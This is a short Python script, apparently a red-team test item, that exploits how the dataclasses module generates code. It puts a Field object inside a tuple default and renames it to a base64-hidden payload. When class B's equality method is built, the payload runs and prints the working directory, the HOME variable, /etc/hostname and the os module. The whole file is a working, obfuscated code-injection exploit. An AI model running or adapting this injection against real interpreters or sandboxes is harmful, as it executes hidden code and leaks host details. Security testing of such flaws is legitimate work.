# family: red team, round 57b (field() inside a tuple default in a dataclass body stays a Field inside the tuple)
import base64
import dataclasses

CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="


@dataclasses.dataclass
class A:
    x: int = 0
    pair: tuple = (dataclasses.field(default=0), 1)


@dataclasses.dataclass
class C:
    z: int = A.pair[0]


def main():
    for f in A.pair[:1]:
        f.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(C):
        pass

    print(B() == B())


main()
